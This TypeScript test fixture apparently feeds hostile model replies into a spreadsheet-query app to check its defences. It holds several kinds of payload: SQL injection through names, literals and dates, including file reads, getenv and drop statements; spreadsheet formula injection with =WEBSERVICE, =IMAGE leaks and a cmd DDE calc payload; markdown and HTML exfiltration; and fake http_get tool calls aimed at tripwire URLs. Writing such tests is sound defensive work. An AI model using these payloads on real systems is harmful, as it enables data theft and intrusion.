import { saying, type GeminiReply } from '../../support/gemini-server.js';
import { hostile } from '../sql/corpus/corpus.js';

/** What an attacker tells a model to answer; `{folder}` and `{url}` are aimed at tripwires. */
export interface Payload {
  readonly name: string;
  readonly reply: (aim: (text: string) => string) => GeminiReply;
}

const sql = (text: string): Payload => ({
  name: text,
  reply: (aim) => saying({ outcome: 'sql', plan: null, sql: aim(text) }),
});

const raw = (name: string, body: (aim: (text: string) => string) => unknown): Payload => ({
  name,
  reply: (aim) => saying(body(aim)),
});

/** Every nth line, so that each kind is among them. */
const spread = (statements: readonly string[], count: number): string[] => {
  const step = Math.floor(statements.length / count);
  return statements.filter((_, index) => index % step === 0);
};

/** Aimed at the table that is there, so that no statement fails for want of one. */
const atData = (text: string): string => text.replaceAll(/\b(from|into|table|update|view) t\b/gi, '$1 data');

/** All that is forbidden in the engine's own dialect, and some of what works elsewhere. */
const statements = [
  ...new Set([
    ...hostile('duckdb'),
    ...spread(hostile('postgres'), 24),
    ...spread(hostile('mysql'), 14),
    ...spread(hostile('sqlite'), 14),
  ]),
].map((text) => sql(atData(text)));

/** Admitted SELECTs whose cells and headers want to be formulas, links or markup. */
const formulas = [
  `select '=HYPERLINK("{url}","click")' as "=HYPERLINK(""{url}"")" from data`,
  `select '=IMAGE("{url}?"&A1)' as picture from data`,
  `select '=WEBSERVICE("{url}")' as "=WEBSERVICE(""{url}"")" from data`,
  `select '+cmd|'' /C calc''!A0' as "+cmd|' /C calc'!A0" from data`,
  `select '@SUM(1+1)*cmd' as "@SUM(A1)" from data`,
  `select '-2+3+cmd' as "-1" from data`,
  `select chr(9) || '=1+1' as tabbed, chr(13) || '=1+1' as returned from data`,
  `select '＝1+1' as wide, chr(8203) || '=1+1' as invisible from data`,
  `select '![x]({url}/leak)' as "![x]({url}/leak)" from data`,
  `select '<img src="{url}/x" onerror="alert(1)">' as "<script>fetch('{url}')</script>" from data`,
  `select '{"formula":"=1+1"}' as json, '=DV.SQL("drop table data")' as own from data`,
  `select '=cmd' as a, '=cmd' as b, 1 as "=1+1" from data`,
].map(sql);

const column = (name: string) => ({ kind: 'column', table: 'data', column: name });
const plan = (change: object) => ({
  select: [{ value: column('Region'), as: null }],
  distinct: false,
  from: 'data',
  joins: [],
  where: null,
  groupBy: [],
  having: null,
  orderBy: [],
  limit: null,
  topPerGroup: null,
  combine: null,
  ...change,
});
const planned = (name: string, change: object): Payload =>
  raw(name, (aim) => ({ outcome: 'plan', plan: aim(JSON.stringify(plan(change))), sql: null }));

/** Plans that try to break out of names and literals. */
const plans = [
  planned('a table that is a file', { from: '{folder}/secret.csv' }),
  planned('a quote in a table', { from: `data"; copy data to '{folder}/written` }),
  planned('a quote in a column', {
    select: [{ value: column(`Region" from read_text('{folder}/secret.csv') --`), as: null }],
  }),
  planned('a quote in an alias', { select: [{ value: column('Region'), as: `a", getenv('HOME') as "b` }] }),
  planned('a quote in a literal', {
    where: {
      kind: 'compare',
      op: '=',
      left: column('Region'),
      right: { kind: 'literal', value: `' or getenv('HOME') = '` },
    },
  }),
  planned('a formula as alias', { select: [{ value: column('Region'), as: '=WEBSERVICE("{url}")' }] }),
  planned('a date that is none', {
    where: {
      kind: 'compare',
      op: '>',
      left: column('Region'),
      right: { kind: 'date', value: `2025-01-01'; drop view data; --` },
    },
  }),
];

/** Answers that are no answers. */
const others = [
  raw('a tool call', (aim) => ({ tool: 'http_get', arguments: { url: aim('{url}') } })),
  raw('a function call with sql', (aim) => ({
    functionCall: { name: 'run', args: { sql: aim("copy data to '{folder}/written'") } },
  })),
  raw('prose with a link', (aim) => aim('Sure! Open [this]({url}) to see the answer. =HYPERLINK("{url}")')),
  raw('markup', (aim) => aim('<html><img src="{url}"></html>')),
  raw('two statements in a plan', () => ({ outcome: 'plan', plan: '{}; drop table data', sql: 'drop table data' })),
];

export const payloads: readonly Payload[] = [...statements, ...formulas, ...plans, ...others];
